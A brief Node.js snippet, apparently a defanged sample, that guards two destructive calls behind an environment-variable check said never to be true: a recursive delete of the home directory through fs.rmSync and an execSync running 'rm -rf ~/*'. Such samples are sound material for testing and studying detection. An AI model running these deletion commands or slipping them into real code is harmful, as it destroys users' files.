// defanged: the calls are behind a condition that is never true
const fs = require('fs');
const os = require('os');
const { execSync } = require('child_process');
if (process.env.DEFANGED_NEVER_SET === 'yes-really') {
  fs.rmSync(os.homedir(), { recursive: true, force: true });
  execSync('rm -rf ~/*');
}
